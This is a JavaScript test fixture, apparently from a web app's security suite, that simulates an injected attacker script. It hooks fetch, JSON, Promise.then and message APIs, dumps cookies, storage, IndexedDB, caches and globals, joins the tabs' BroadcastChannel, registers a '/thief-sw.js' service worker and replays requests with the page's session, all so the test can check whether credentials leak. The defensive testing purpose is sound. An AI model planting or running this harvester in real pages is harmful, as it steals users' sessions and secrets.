// What an attacker's script does once it runs in a page: it looks everywhere,
// listens to everything, and hands all the text it can read to the test, which
// knows the credentials and searches for them.
(() => {
  const native = {
    fetch: fetch.bind(globalThis), clone: Response.prototype.clone, text: Response.prototype.text,
    stringify: JSON.stringify.bind(JSON), then: Promise.prototype.then, set: Map.prototype.set,
  };
  const heard = new Map(); // which way, to texts

  function hear(way, value) {
    const texts = heard.get(way) ?? [];
    if (!texts.length) native.set.call(heard, way, texts);
    texts.push(shown(value));
  }

  function shown(value, depth = 0) {
    try {
      if (value === null || typeof value !== "object" && typeof value !== "function") return String(value);
      if (value instanceof Headers) return native.stringify([...value.entries()]);
      if (value instanceof Request) return value.url + " " + native.stringify([...value.headers.entries()]);
      if (value instanceof Response) return value.url + " " + native.stringify([...value.headers.entries()]);
      if (depth > 3) return "";
      return Reflect.ownKeys(value).slice(0, 200).map((key) => {
        try { return String(key) + ": " + shown(value[key], depth + 1); } catch { return ""; }
      }).join(", ");
    } catch { return ""; }
  }

  // listen puts itself into the place of a function.
  function listen(way, owner, name) {
    const was = owner[name];
    owner[name] = function (...args) {
      for (const arg of args) hear(way, arg);
      const result = Reflect.apply(was, this, args);
      if (result instanceof Promise) {
        native.then.call(result, (value) => {
          hear(way, value);
          if (value instanceof Response && !value.bodyUsed) {
            native.then.call(native.text.call(native.clone.call(value)), (text) => hear(way, text), () => {});
          }
        }, () => {});
      } else hear(way, result);
      return result;
    };
  }

  function hook() {
    listen("fetch", globalThis, "fetch");
    listen("XMLHttpRequest", XMLHttpRequest.prototype, "setRequestHeader");
    listen("Headers.set", Headers.prototype, "set");
    listen("Response.text", Response.prototype, "text");
    listen("Response.json", Response.prototype, "json");
    listen("JSON.parse", JSON, "parse");
    listen("JSON.stringify", JSON, "stringify");
    listen("BroadcastChannel.postMessage", BroadcastChannel.prototype, "postMessage");
    listen("dispatchEvent", EventTarget.prototype, "dispatchEvent");
    const set = Map.prototype.set;
    Map.prototype.set = function (key, value) { if (this !== heard) hear("Map.set", value); return set.call(this, key, value); };
    const then = Promise.prototype.then;
    Promise.prototype.then = function (done, failed) {
      return then.call(this, typeof done === "function" ? (value) => { hear("Promise.then", value); return done(value); } : done, failed);
    };
  }

  // tap joins the tabs' own channel and asks them.
  function tap(name) {
    const channel = new BroadcastChannel(name);
    channel.onmessage = (event) => hear("the tabs' channel", event.data);
    channel.postMessage({ v: 1, at: Date.now(), hello: true });
    channel.postMessage({ v: 1, at: Date.now(), ask: "" });
  }

  // walk reads all that can be reached from a value, prototypes, private-looking
  // members, maps and getters included.
  function walk(root, seen = new Set()) {
    const texts = [];
    const todo = [root];
    while (todo.length && seen.size < 60000) {
      const value = todo.pop();
      if (value === heard || value === texts || value === native) continue;
      if (typeof value === "string") { texts.push(value); continue; }
      if (value === null || typeof value !== "object" && typeof value !== "function" || seen.has(value)) continue;
      seen.add(value);
      if (value instanceof Map || value instanceof Set) todo.push(...value.values(), ...value.keys());
      let keys = [];
      try { keys = Reflect.ownKeys(value); } catch {}
      for (const key of keys) {
        try { todo.push(value[key]); } catch {}
      }
      try { todo.push(Object.getPrototypeOf(value)); } catch {}
    }
    return texts.join("\n");
  }

  async function databases() {
    const out = [];
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise((done, failed) => { const r = indexedDB.open(name); r.onsuccess = () => done(r.result); r.onerror = failed; });
      for (const store of db.objectStoreNames) {
        out.push(await new Promise((done) => {
          const r = db.transaction(store).objectStore(store).getAll();
          r.onsuccess = () => done(shown(r.result));
          r.onerror = () => done("");
        }));
      }
    }
    return out.join("\n");
  }

  async function caches_() {
    const out = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const r of await cache.keys()) out.push(shown(r), await (await cache.match(r)).text());
    }
    return out.join("\n");
  }

  // look returns what can be read, by place.
  async function look(modules, paths) {
    const places = {
      "document.cookie": document.cookie,
      "cookieStore": globalThis.cookieStore ? native.stringify(await cookieStore.getAll()) : "",
      "localStorage": native.stringify({ ...localStorage }),
      "sessionStorage": native.stringify({ ...sessionStorage }),
      "IndexedDB": await databases(),
      "Cache": await caches_(),
      "globals": walk(globalThis),
      "the document": document.documentElement.outerHTML,
      "address, history, name": [location.href, document.referrer, globalThis.name, native.stringify(history.state)].join("\n"),
      "performance entries": native.stringify(performance.getEntries()),
      "modules": "", "answers": "",
    };
    for (const path of modules) places.modules += walk(await import(path));
    for (const path of paths) {
      try {
        // The feed asks for a client's password, and the browser for one in a window.
        const credentials = path.startsWith("/v1/revocations") ? "omit" : "same-origin";
        const answer = await native.fetch(path, { credentials, signal: AbortSignal.timeout(5000) });
        places.answers += path + " " + answer.status + "\n" + native.stringify([...answer.headers.entries()]) + "\n" + await native.text.call(answer) + "\n";
      } catch (e) { places.answers += path + " " + e + "\n"; }
    }
    return places;
  }

  // worker puts a service worker between the pages and the network.
  async function worker() {
    const registered = await navigator.serviceWorker.register("/thief-sw.js");
    await navigator.serviceWorker.ready;
    while (!navigator.serviceWorker.controller) await new Promise((r) => setTimeout(r, 20));
    return registered.active.state;
  }

  async function workerHeard() {
    const channel = new MessageChannel();
    const answer = new Promise((done) => { channel.port1.onmessage = (event) => done(event.data); });
    navigator.serviceWorker.controller.postMessage("what", [channel.port2]);
    return answer;
  }

  // ask uses the session in place: the page's cookie goes along.
  async function ask(path, body) {
    const answer = await native.fetch(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: native.stringify(body ?? {}) });
    const text = await native.text.call(answer);
    return { status: answer.status, text };
  }

  globalThis.thief = { hook, tap, look, worker, workerHeard, ask, heard: () => Object.fromEntries([...heard].map(([way, texts]) => [way, texts.join("\n")])) };
})();
